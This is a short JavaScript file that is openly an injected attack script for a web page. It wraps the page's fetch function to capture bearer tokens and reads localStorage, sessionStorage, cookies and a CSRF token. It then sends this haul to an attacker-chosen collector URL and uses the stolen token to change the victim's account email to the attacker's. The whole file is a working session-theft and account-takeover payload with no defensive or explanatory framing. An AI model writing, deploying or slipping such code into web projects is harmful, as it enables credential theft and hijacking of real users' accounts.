/** A script of somebody else's in the client's page: it listens, and strikes when it is told to. */

(() => {
  const sent = globalThis.fetch;
  const overheard = new Set();

  // Whatever the page keeps its token in, it has to send it.
  globalThis.fetch = (...request) => {
    const said = new Request(...request).headers.get("Authorization");
    if (said) {
      overheard.add(said.replace("Bearer ", ""));
    }
    return sent(...request);
  };

  /** Everything that a script can read of what the page keeps. */
  async function loot(api) {
    const proof = await sent(`${api}/api/csrf`, { credentials: "include" });
    return {
      storage: [localStorage, sessionStorage].flatMap((storage) => Object.values(storage)),
      overheard: [...overheard],
      cookies: document.cookie,
      proof: proof.ok ? (await proof.json()).csrf_token : "",
    };
  }

  globalThis.injected = {
    /**
     * Carry off what can be read; then change the email address, as the user.
     *
     * @param {string} api Origin of the API. @param {string} collector Where the loot goes.
     * @param {string} email The attacker's.
     */
    async strike(api, collector, email) {
      const found = await loot(api);
      await sent(collector, { method: "POST", mode: "no-cors", body: JSON.stringify(found) });
      const tokens = [...found.overheard, ...found.storage.map((text) => JSON.parse(text).token)];
      const headers = { "Content-Type": "application/json", "X-CSRF-Token": found.proof };
      if (tokens.length > 0) {
        headers.Authorization = `Bearer ${tokens[0]}`;
      }
      await sent(`${api}/api/email`, {
        method: "POST",
        credentials: "include",
        headers,
        body: JSON.stringify({ email }),
      });
    },
  };
})();
